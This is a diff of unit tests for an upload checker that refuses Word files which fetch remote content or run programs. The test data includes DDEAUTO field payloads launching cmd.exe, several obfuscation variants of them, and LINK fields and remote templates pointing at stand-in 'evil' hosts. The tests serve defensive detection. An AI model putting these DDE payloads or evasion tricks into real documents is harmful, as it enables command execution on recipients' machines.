@@ -147,6 +147,47 @@ describe('a Word document fetches nothing when it is opened', () => {
     ['lists without end', docx({ [at]: ' '.repeat(4_200_000), 'word/media/a.png': noise })],
   ])('one with %s is refused', (_, bytes) => expect(because('a.docx', bytes)).toContain('从别处读取'))
 
+  const field = (instruction: string) =>
+    `<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}<w:r><w:fldChar w:fldCharType="separate"/></w:r></w:document>`
+  const piece = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
+  it.each([
+    ['whole', field(piece(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '))],
+    ['in pieces', field(piece(' DD') + piece('EAUTO c:\\cmd.exe'))],
+    ['in small letters', field(piece('dde excel a b'))],
+    ['behind numbers', field(piece('&#68;DE excel a b'))],
+    ['in an attribute', '<w:p><w:fldSimple w:instr=" DDE excel a b "/></w:p>'],
+    ['after a field within', field(piece(' ') + field(piece('SET a b')) + piece('DDEAUTO c a'))],
+    ['behind a mark that closes nothing', field('<w:instrText a=">">DDEAUTO c a</w:instrText>')],
+    ['beside the markup', field(piece('<![CDATA[DDEAUTO c a]]>'))],
+    ['around a comment', field(piece('DD<!-- -->EAUTO c a'))],
+    ['to another document', field(piece('LINK Excel.Sheet.12 "\\\\evil\\a.xlsx" R1C1 \\a'))],
+  ])('one with a field that calls another program, %s, is refused', (_, text) =>
+    expect(because('a.docx', docx({ 'word/footnotes.xml': text }))).toContain('从别处读取'),
+  )
+
+  it('nor may its text be called otherwise than text', () => {
+    const named = `<Types><Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
+    expect(because('a.docx', docx({ [types]: named, 'word/a.png': field(piece('DDEAUTO c a')) }))).toContain('只接收')
+  })
+
+  it('one with the usual fields is taken in', () => {
+    const usual = ['PAGE', 'TOC \\o "1-3"', 'HYPERLINK "https://court.example/LINK" ', 'MERGEFIELD DDE', 'REF LADDER']
+    const text = usual
+      .map((one) => field(piece(one)))
+      .join('')
+      .replaceAll(/<\/?w:document>/g, '')
+    const bytes = docx({ 'word/document.xml': `<w:document>${text}<w:t>DDEAUTO 是什么</w:t></w:document>` })
+    expect(because('a.docx', bytes)).toBeUndefined()
+  })
+
+  it.each(['<w:instrText', '<w:instrText "', 'instr  ', '<w:fldChar ', '<!--'])(
+    'a text of nothing but “%s” is read in one walk',
+    async (text) => {
+      const bytes = docx({ 'word/document.xml': text.repeat(3_000_000 / text.length), 'word/media/a.png': noise })
+      expect(await took(() => checkFile({ name: 'a.docx', bytes }))).toBeLessThan(1500)
+    },
+  )
+
   it('one with links to follow, parts of its own and a template on one’s own disk is taken in', () => {
     const document = rels(
       one('hyperlink', 'https://court.example/a?b=1&amp;c=2'),
@@ -169,6 +210,36 @@ describe('a Word document fetches nothing when it is opened', () => {
       expect(await took(() => checkFile({ name: 'a.docx', bytes }))).toBeLessThan(1500)
     },
   )
+})
+
+describe('a Word 97-2003 document', () => {
+  const plainly = (text: string) => joined(doc(), bytesOf(text))
+  const wide = (text: string) => [...text].map((letter) => `${letter}\0`).join('')
+  const titles = (template: string) =>
+    `\xff\xff\x12\0\0\0\x02\0${wide('ab')}${String.fromCharCode(template.length)}\0${wide(template)}`
+  const storage = (name: string) => `${wide(name)}${'\0\0'.repeat(32 - name.length)}\x18\0\x01`
+  it.each([
+    ['a field that starts a program', '\x13 DDEAUTO c:\\cmd.exe \x14'],
+    ['such a field in letters of two bytes', wide('\x13 dde excel a b \x14')],
+    ['a link into another document', '\x13LINK Excel.Sheet.8 \\\\evil\\a.xls'],
+    ['a template from elsewhere', titles('https://evil.invalid/a')],
+    ['a template from another machine', titles('\\\\evil\\a.dot')],
+    ['an object of another program', storage('_1234567890')],
+  ])('with %s is refused', (_, text) => expect(because('a.doc', plainly(text))).toContain('从别处读取'))
+
+  it('with macros is refused, in whatever letters they are called', () =>
+    expect(because('a.doc', doc('_vba_project'))).toContain('只接收'))
+
+  it.each([
+    ['a template on the own disk', titles('C:\\Users\\a\\Normal.dot')],
+    ['the usual fields', '\x13 PAGE \x14 \x13 HYPERLINK "http://court.example/" \x14 DDEAUTO'],
+    ['the folder of objects without any', storage('ObjectPool')],
+  ])('with %s is taken in', (_, text) => expect(because('a.doc', plainly(text))).toBeUndefined())
+
+  it.each(['\xff\xff\x12\0\0\0', '\x13 ', '_\0', '\x13"'])('of nothing but %j is read in one walk', async (text) => {
+    const bytes = plainly(text.repeat(6_000_000 / text.length))
+    expect(await took(() => checkFile({ name: 'a.doc', bytes }))).toBeLessThan(1500)
+  })
 })
 
 describe('a PDF cannot act by itself', () => {
